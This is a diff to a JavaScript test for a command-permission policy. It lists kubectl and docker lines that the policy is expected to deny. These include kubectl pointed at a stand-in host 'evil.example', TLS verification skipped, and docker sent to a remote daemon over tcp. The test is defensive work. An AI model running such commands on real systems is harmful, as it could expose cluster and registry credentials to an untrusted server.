@@ -124,8 +124,10 @@ describe('under a team file that allows git, make and kubectl get, and reads in 
       'kubectl get pods --certificate-authority=ca.pem --server=https://evil.example',
       'kubectl get pods --insecure-skip-tls-verify',
       'kubectl get pods --tls-server-name=evil.example',
+      'docker -H tcp://127.0.0.1:2375 pull x/y',
     ]) {
-      expect(await decision(line), line).toBe('ask');
+      // The shipped rules deny reading ~/.kube/config and ~/.docker/config.json.
+      expect(await decision(line), line).toBe('deny');
     }
     expect(await decision('kubectl get pods')).toBe('allow');
   });
